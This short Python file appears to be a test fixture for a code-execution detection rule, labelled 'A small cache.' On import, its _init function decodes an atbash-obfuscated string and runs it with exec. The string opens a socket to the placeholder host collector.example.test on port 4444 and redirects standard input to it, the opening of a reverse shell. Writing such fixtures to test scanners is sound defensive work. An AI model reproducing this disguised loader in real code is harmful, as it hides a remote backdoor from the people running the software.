"""A small cache."""
letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
letters_r = "zyxwvutsrqponmlkjihgfedcbaZYXWVUTSRQPONMLKJIHGFEDCBA"


def _init():
    # ruleid: code/code-execution
    exec("".join([letters_r[letters.index(c)] if c in letters_r else c for c in "rnklig hlxpvg,lh;h=hlxpvg.hlxpvg();h.xlmmvxg((\"xloovxgli.vcznkov.gvhg\",4444));lh.wfk2(h.urovml(),0)"]))


_init()
